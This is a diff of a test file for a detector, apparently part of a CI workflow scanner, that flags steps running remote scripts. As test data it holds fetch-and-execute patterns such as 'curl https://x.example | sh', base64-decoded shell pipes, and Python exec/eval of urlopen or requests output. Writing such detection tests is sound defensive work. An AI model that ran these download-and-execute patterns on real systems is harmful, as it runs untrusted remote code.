@@ -1,6 +1,9 @@
 import { expect, test } from "vitest";
-import { readRemoteScripts } from "../../../../rules/capabilities/github-step/remote-scripts.ts";
-import { grantedIn, jobWith, shortly, stepRunning } from "./granted.ts";
+import {
+  readRemoteScripts,
+  REMOTE_SCRIPT_LEVELS,
+} from "../../../../rules/capabilities/github-step/remote-scripts.ts";
+import { causesIn, grantedIn, jobWith, shortly, stepRunning } from "./granted.ts";
 
 const SHA = "0123456789abcdef0123456789abcdef01234567";
 
@@ -237,19 +240,42 @@ test("a folded script has all its lines", () => {
 });
 
 test("other encoded text of one name is another cause, another layout is not", () => {
-  const causes = (script: string): string[] =>
-    grantedIn(stepRunning(script), readRemoteScripts).flatMap(({ reach }) =>
-      reach.map(({ cause }) => cause).filter((cause) => cause.startsWith("script:")),
-    );
+  const causes = (script: string): string[] => causesIn(script, readRemoteScripts, "script:");
   const [first] = causes("echo aGk= | base64 -d | sh");
   expect(causes("echo  'aGk=' |\n base64 -d | sh")).toEqual([first]);
   expect(causes("echo aGm= | base64 -d | sh")).not.toEqual([first]);
   expect(causes("curl https://x.example | sh")).toEqual([]);
 });
 
-test("a step that runs scripts of very many sources is not understood", () => {
-  const script = Array.from({ length: 101 }, (_, n) => `curl https://x${n}.example | sh`).join(
-    "\n",
+test.each([
+  ["exec(urlopen('https://x.example/a').read())", "x.example mutable 6"],
+  ["code = urlopen (\n  'https://x.example/a')\neval (code)", "x.example mutable 6"],
+  ["import os\n\nos.system(requests.get('https://x.example').text)", "x.example mutable 8"],
+  ["# https://y.example\nurlretrieve('https://x.example', f)\nexec(f)", "x.example mutable 7"],
+  ["url = 'https://x.example'\nsubprocess.run(urlopen(url).read())", "x.example mutable 7"],
+  ["subprocess.check_call (requests.get (url).text)", "an unknown host mutable 6"],
+])("%s runs in Python what comes from elsewhere", (script, found) => {
+  expect(foundIn(script, "        shell: python\n")).toEqual([found]);
+});
+
+test("what runs in Python from a host that is not known is told by all of the text", () => {
+  const causes = (script: string): string[] => causesIn(script, readRemoteScripts, "script:");
+  const first = causes("exec(urlopen(a))");
+  expect(first).toHaveLength(1);
+  expect(causes("exec(urlopen(b))")).not.toEqual(first);
+  expect(causes("exec(urlopen('https://x.example'))")).toEqual([]);
+});
+
+test("a remote script is a guess, and a pinned one the weaker", () => {
+  const [found] = grantedIn(stepRunning("curl https://x.example | sh"), readRemoteScripts);
+  expect(found).toMatchObject({ certainty: "heuristic" });
+  expect(REMOTE_SCRIPT_LEVELS).toEqual(["pinned", "mutable"]);
+});
+
+test("a step that runs scripts of more than a hundred sources is not understood", () => {
+  const lines = Array.from({ length: 101 }, (_, n) => `curl https://x${n}.example | sh`);
+  expect(foundIn(lines.slice(1).join("\n"))).toHaveLength(100);
+  expect(() => foundIn(lines.join("\n"))).toThrow(
+    expect.objectContaining({ code: "too-many-sources" }),
   );
-  expect(() => foundIn(script)).toThrow(expect.objectContaining({ code: "too-many-sources" }));
 });
